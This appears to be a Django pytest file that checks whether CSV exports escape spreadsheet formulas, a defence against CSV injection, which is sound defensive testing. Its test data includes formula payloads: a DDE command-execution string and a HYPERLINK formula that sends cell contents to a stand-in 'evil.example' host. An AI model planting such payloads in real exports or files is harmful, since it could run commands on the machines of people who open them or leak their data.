"""CSV exports never hand a spreadsheet a formula (CSV injection)."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from common.csv_export import SafeCSVWriter, csv_cell
from units.models import UnitImport

pytestmark = pytest.mark.django_db

DANGEROUS = ["=HYPERLINK(\"http://x\",\"y\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
             "\t=1", "\r=1"]  # fmt: skip


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_that_would_be_a_formula_is_shown_as_text(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-1", "+44", "-2.5", "101", "A-1", "B=2", "", "O'Neil"])
def test_plain_values_and_numbers_are_left_alone(value):
    assert csv_cell(value) == value


@given(st.text())
def test_no_cell_written_starts_a_formula(value):
    out = io.StringIO()
    SafeCSVWriter(out).writerow([value])
    (cell,) = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    # What is read back is the value, or the value behind an apostrophe...
    assert cell in {value, "'" + value}
    # ...and it starts a formula only when it is a plain number like -1.
    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        assert re.fullmatch(r"[+-]?\d+(?:[.,]\d+)?", cell)


def test_the_unit_import_error_report_escapes_unit_names(alice_client, prop_a):
    # Given a file whose unit names are formulas (each an error: the name is too long, or twice)
    long_formula = '=HYPERLINK("http://evil.example/"&A1)' + "x" * 100
    raw = f"name\n{long_formula}\n@SUM(1)\n@SUM(1)\n-1\n-1\n".encode()
    alice_client.post(
        reverse("units-import", args=[prop_a.id]),
        {"file": SimpleUploadedFile("u.csv", raw, content_type="text/csv")},
    )
    upload = UnitImport.objects.get(property=prop_a)

    # When the error report is downloaded
    response = alice_client.get(reverse("units-import-errors", args=[prop_a.id, upload.id]))

    # Then no name cell starts a formula; the plain number -1 stays a number
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    names = [row[1] for row in rows[1:]]
    assert names == ["'" + long_formula, "'@SUM(1)", "-1"]
